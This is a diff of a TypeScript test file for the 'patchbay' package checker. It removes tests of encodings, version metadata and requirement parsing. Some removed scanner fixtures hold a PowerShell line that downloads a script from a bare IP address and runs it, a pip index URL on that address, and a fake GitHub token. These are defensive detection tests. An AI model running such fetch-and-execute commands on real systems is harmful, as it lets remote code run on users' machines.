@@ -30,28 +30,11 @@ interface Case {
   says: RegExp;
 }
 
-const token = ['ghp', 'x7Qm2Vn9Rt4Kb8Zc1Ld6Wf3Hs5Jg0PyUaEiT'].join('_');
-
 const checked: Readonly<Record<string, Case>> = {
-  'requirements in UTF-16, as PowerShell writes them, are checked': {
-    files: project({ 'requirements.txt': utf16('--index-url http://192.0.2.7/simple\r\nnumpy\r\n') }),
-    code: 1,
-    says: /requirements\.txt:1.*requirement-from-address/,
-  },
   'requirements in UTF-32, which pip reads, cannot be checked': {
     files: project({ 'requirements.txt': Buffer.from([0xff, 0xfe, 0, 0, 0x61, 0, 0, 0]) }),
     code: 1,
     says: /cannot be checked to its end/,
-  },
-  'a script in UTF-16 is checked': {
-    files: project({ 'install.ps1': utf16('iwr http://192.0.2.7/x.ps1 | iex') }),
-    code: 1,
-    says: /install\.ps1:1.*download-to-shell/,
-  },
-  'any text in UTF-16 is searched for secrets': {
-    files: project({ 'notes.txt': utf16(`token = ${token}`) }),
-    code: 1,
-    says: /notes\.txt:1.*github-token/,
   },
   'credentials in the settings of Git': {
     files: project({
@@ -151,72 +134,6 @@ const checked: Readonly<Record<string, Case>> = {
     code: 0,
     says: /__init__\.py:14 {2}is not valid Python: y = 1\n/,
   },
-  'a version file with a mark and Windows line ends': {
-    files: project(
-      { 'about.py': '\ufeff__version__ = "2.3.4"\r\n' },
-      toml('dynamic = ["version"]', 'case', '').replace(
-        '[tool.comfy]',
-        '[tool.comfy.version]\npath = "about.py"\n[tool.comfy]',
-      ),
-    ),
-    code: 0,
-    says: /case 2\.3\.4: The checks pass/,
-  },
-  'a version file that is a folder': {
-    files: project(
-      { 'pkg/__init__.py': '' },
-      toml('dynamic = ["version"]', 'case', '').replace(
-        '[tool.comfy]',
-        '[tool.comfy.version]\npath = "pkg"\n[tool.comfy]',
-      ),
-    ),
-    code: 1,
-    says: /pkg is a folder\. Name a file in it/,
-  },
-  'a dynamic version of another tool': {
-    files: project(
-      {},
-      `${toml('dynamic = ["version"]', 'case', '')}\n[tool.hatch.version]\npath = "about.py"\n`,
-    ),
-    code: 1,
-    says: /The version is dynamic\. Only the file that path in \[tool\.comfy\.version\] names is read/,
-  },
-  'metadata in latin-1': {
-    files: project({ 'pyproject.toml': Buffer.from(toml('description = "caf\xe9"'), 'latin1') }),
-    code: 1,
-    says: /pyproject\.toml is not UTF-8\. Save it as UTF-8/,
-  },
-  'metadata in UTF-16': {
-    files: project({ 'pyproject.toml': utf16(toml()) }),
-    code: 1,
-    says: /pyproject\.toml is not UTF-8/,
-  },
-  'a version of PEP 440': {
-    files: project({}, toml('', 'case', 'version = "1.0.0rc1"')),
-    code: 1,
-    says: /project\.version: "1\.0\.0rc1" cannot be published\. Write a version like 1\.2\.3/,
-  },
-  'a version with a leading zero': {
-    files: project({}, toml('', 'case', 'version = "1.4.03"')),
-    code: 1,
-    says: /"1\.4\.03" cannot be published/,
-  },
-  'an id that is none': { files: project({}, toml('', 'my nodes!')), code: 1, says: /"my nodes!" is no id/ },
-  'too many dependencies': {
-    files: project({}, toml(`dependencies = [${'"p",'.repeat(1_001)}]`)),
-    code: 1,
-    says: /project\.dependencies must be a list of at most 1000/,
-  },
-  'an icon that is a path, and a repository for SSH': {
-    files: project({}, `${toml('urls.Repository = "git@example.org:mara/x.git"')}Icon = "icon.png"\n`),
-    code: 1,
-    says: /the icon must be a URL[^]*project\.urls\.Repository must be a URL/,
-  },
-  'a long description': {
-    files: project({}, toml(`description = "${'d'.repeat(10_001)}"`)),
-    code: 1,
-    says: /project\.description must be at most 10000 characters long/,
-  },
 };
 
 plainSuite('patchbay check, of what people send', () => {
@@ -239,56 +156,6 @@ plainSuite('patchbay check, of what people send', () => {
     const zipped = await zip({ ...Object.fromEntries(files), 'pyproject.toml': toml() });
     await writeFiles(cli.cwd, { 'mixed.zip': zipped });
     assert.equal((await cli.run(['check', '--no-remote', 'mixed.zip'])).code, 0, 'a file beside the folder');
-  });
-});
-
-plainSuite('patchbay init, of the requirements that people have', () => {
-  const init = async (t: Parameters<typeof openCli>[0], requirements: string | Uint8Array) => {
-    const cli = await openCli(t, { url });
-    const folder = await makeFolder(t, { 'requirements.txt': requirements });
-    const { code, result } = await cli.json(['init', folder, '--id=case', '--publisher=mara']);
-    assert.equal(code, 0, JSON.stringify(result));
-    const added: { key: string; value: string[] }[] = result.data.added;
-    await readFile(join(folder, 'pyproject.toml'), 'utf8');
-    return {
-      kept: added.find(({ key }) => key === 'project.dependencies')?.value,
-      leftOut: result.data.left_out,
-    };
-  };
-
-  test('in UTF-16, with options, paths, addresses and hashes', async (t) => {
-    assert.deepEqual(await init(t, utf16('numpy>=1.24\r\npillow\r\n')), {
-      kept: ['numpy>=1.24', 'pillow'],
-      leftOut: [],
-    });
-    const lines = [
-      '-r more.txt',
-      '-e ./vendored',
-      'pillow==10.3.0 --hash=sha256:aa \\\n    --hash=sha256:bb',
-      'paint @ git+https://git.example.org/mara/paint.git#subdirectory=py',
-      'https://files.example.org/ink-1.0-py3-none-any.whl',
-      './wheels/local-1.0-py3-none-any.whl',
-      'onnxruntime; sys_platform != "darwin"  # not there',
-      'transformers[torch,sentencepiece] >= 4.40 , < 5',
-      'bar=1.0',
-      'baz 1.0',
-    ];
-    assert.deepEqual(await init(t, lines.join('\n')), {
-      kept: [
-        'pillow==10.3.0',
-        'paint @ git+https://git.example.org/mara/paint.git#subdirectory=py',
-        'onnxruntime; sys_platform != "darwin"',
-        'transformers[torch,sentencepiece] >= 4.40 , < 5',
-      ],
-      leftOut: [
-        '-r more.txt',
-        '-e ./vendored',
-        'https://files.example.org/ink-1.0-py3-none-any.whl',
-        './wheels/local-1.0-py3-none-any.whl',
-        'bar=1.0',
-        'baz 1.0',
-      ],
-    });
   });
 });
 
